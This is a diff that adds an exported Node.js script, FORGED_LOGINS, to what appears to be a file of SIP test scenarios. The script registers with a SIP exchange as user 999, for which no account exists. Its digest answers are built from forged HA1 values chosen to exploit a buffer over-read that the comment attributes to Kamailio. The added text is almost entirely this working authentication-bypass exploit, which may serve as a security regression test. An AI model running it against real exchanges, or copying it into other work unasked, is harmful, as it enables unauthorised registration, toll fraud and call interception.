@@ -213,3 +213,47 @@ const ANSWERING = `${HEAD}<scenario name="answering">
 
     ]]></send>
 </scenario>`;
+
+/**
+ * `node FILE EXCHANGE DOMAIN LOCAL`: logs in as a number that nobody has, with answers made from what Kamailio may take for its digest (RFC 2617 HA1): it reads
+ * 32 bytes of its buffer, so that a shorter text is followed by what was there. Prints the status of each answer.
+ */
+export const FORGED_LOGINS = `
+const { createHash } = require("node:crypto");
+const { createSocket } = require("node:dgram");
+const [, , exchange, domain, local] = process.argv;
+const md5 = (...parts) => parts.reduce((hash, part) => hash.update(part), createHash("md5")).digest("hex");
+const socket = createSocket("udp4");
+let sent = 0;
+const ask = (login) => new Promise((done) => {
+  socket.once("message", (answer) => done(String(answer)));
+  const lines = [
+    "REGISTER sip:" + domain + " SIP/2.0",
+    "Via: SIP/2.0/UDP " + local + ":7070;branch=z9hG4bK-forged-" + ++sent,
+    "From: <sip:999@" + domain + ">;tag=forged",
+    "To: <sip:999@" + domain + ">",
+    "Call-ID: forged-" + sent,
+    "CSeq: " + sent + " REGISTER",
+    "Contact: <sip:999@" + local + ":7070>",
+    "Max-Forwards: 70",
+    "Expires: 60",
+    ...login,
+    "Content-Length: 0",
+  ];
+  socket.send(lines.join("\\r\\n") + "\\r\\n\\r\\n", 5060, exchange);
+});
+socket.bind(7070, local, async () => {
+  const digests = ["-", "-" + "\\0".repeat(31), "-".repeat(32), ""];
+  const statuses = [];
+  for (const digest of [...digests, ...digests]) {
+    const nonce = /nonce="([^"]+)"/.exec(await ask([]))[1];
+    const uri = "sip:" + domain;
+    const response = md5(digest, ":" + nonce + ":", md5("REGISTER:" + uri));
+    const parts = { username: "999", realm: domain, nonce, uri, response };
+    const words = Object.entries(parts).map(([name, value]) => name + '="' + value + '"');
+    statuses.push((await ask(["Authorization: Digest " + words.join(", ")])).split(" ")[1]);
+  }
+  console.log(statuses.join(" "));
+  process.exit(0);
+});
+`;
